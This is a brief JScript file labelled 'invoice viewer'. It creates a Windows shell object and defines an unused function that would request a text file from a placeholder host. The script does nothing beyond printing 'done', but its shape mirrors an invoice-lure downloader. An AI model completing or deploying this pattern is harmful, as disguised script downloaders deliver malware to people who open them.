// invoice viewer
var shell = new ActiveXObject("WScript.Shell");
var url = "http://example.invalid/a.txt";
function fetch(u) {
  var x = new ActiveXObject("MSXML2.XMLHTTP");
  x.open("GET", u, false);
  return x;
}
WScript.Echo("done");
